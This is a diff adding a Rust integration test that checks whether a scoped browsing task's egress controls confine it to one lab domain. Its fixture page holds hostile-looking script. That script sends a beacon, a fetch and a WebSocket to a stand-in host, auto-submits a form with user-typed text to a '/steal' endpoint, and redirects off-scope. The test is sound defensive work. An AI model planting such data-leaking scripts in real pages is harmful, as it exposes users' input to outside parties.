@@ -458,3 +458,110 @@ fn scenario_8_what_the_proxy_saw_reaches_the_worker_the_person_and_the_json() {
     );
     no_task_containers_left();
 }
+
+#[test]
+fn scenario_9_a_scoped_task_reaches_only_its_named_site() {
+    if !docker_ready() {
+        return;
+    }
+    // Another lab host the address rule opens (--allow), so only the scope keeps the page off it.
+    let (elsewhere, heard_elsewhere) = site(|_| HashMap::from([("/", page("elsewhere"))]));
+    let (port, _) = site(|port| {
+        let _ = port;
+        let hostile = format!(
+            "<p id=\"ok\">in-scope content</p>\
+             <img src=\"http://cdn.lab:{elsewhere}/pixel.png\">\
+             <script>fetch('http://other.lab:{elsewhere}/fetch').catch(() => {{}}); \
+             try {{ new WebSocket('ws://other.lab:{elsewhere}/ws'); }} catch (e) {{}}</script>"
+        );
+        let form = format!(
+            "<form id=\"f\" method=\"post\" action=\"http://other.lab:{elsewhere}/steal\">\
+             <input name=\"typed\" value=\"what the user typed\"></form>\
+             <script>document.getElementById('f').submit();</script>"
+        );
+        HashMap::from([
+            ("/", page(&hostile)),
+            ("/form", page(&form)),
+            (
+                "/go",
+                (
+                    "302 Found",
+                    format!("location: http://other.lab:{elsewhere}/landing\r\n"),
+                    String::new(),
+                ),
+            ),
+        ])
+    });
+    let resolver = dns(HashMap::from([
+        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
+        ("cdn.lab", vec![Ipv4Addr::LOCALHOST]),
+        ("other.lab", vec![Ipv4Addr::LOCALHOST]),
+    ]));
+    let dir = tempfile::tempdir().unwrap();
+    let shop = format!("http://shop.lab:{port}");
+    let script = json!({"turns": [
+        {"tool_calls": [call(&json!(["open", format!("{shop}/")]))]},
+        {"tool_calls": [call(&json!(["wait", "2000"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#ok"]))]},
+        {"expect": {"shown_contains": ["in-scope content"]},
+         "tool_calls": [call(&json!(["open", format!("{shop}/form")]))]},
+        {"tool_calls": [call(&json!(["open", format!("{shop}/go")]))]},
+        {"tool_calls": [call(&json!(["open", format!("http://127.0.0.1:{port}/")]))]},
+        {"text": "Only shop.lab was reached."}
+    ]});
+    let (result, output) = task(
+        dir.path(),
+        &script,
+        &[
+            "--allow",
+            &format!("127.0.0.1:{port}"),
+            "--allow",
+            &format!("127.0.0.1:{elsewhere}"),
+            "--nameserver",
+            &format!("127.0.0.1:{resolver}"),
+            "--allowed-domain",
+            "shop.lab",
+        ],
+    );
+    assert_eq!(
+        result["ended"],
+        "completed",
+        "{result}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert_eq!(result["scope"]["allowed_domains"], json!(["shop.lab"]));
+    let refused = refusals(&result, "target");
+    let reasons = refusals(&result, "reason");
+    for target in [
+        format!("http://cdn.lab:{elsewhere}/pixel.png"),
+        format!("http://other.lab:{elsewhere}/fetch"),
+        format!("other.lab:{elsewhere}"),
+        format!("http://other.lab:{elsewhere}/steal"),
+        format!("http://other.lab:{elsewhere}/landing"),
+        format!("http://127.0.0.1:{port}/"),
+    ] {
+        assert!(
+            refused.contains(&target),
+            "{target} was not refused: {refused:#?}"
+        );
+    }
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r.contains("`cdn.lab` is out of this task's scope")),
+        "{reasons:#?}"
+    );
+    assert!(
+        result["egress_refusals_by_class"]["out-of-scope"]
+            .as_u64()
+            .unwrap()
+            >= 6,
+        "{result}"
+    );
+    assert!(
+        heard_elsewhere.lock().unwrap().is_empty(),
+        "an out-of-scope host was reached: {:?}",
+        heard_elsewhere.lock().unwrap()
+    );
+    no_task_containers_left();
+}
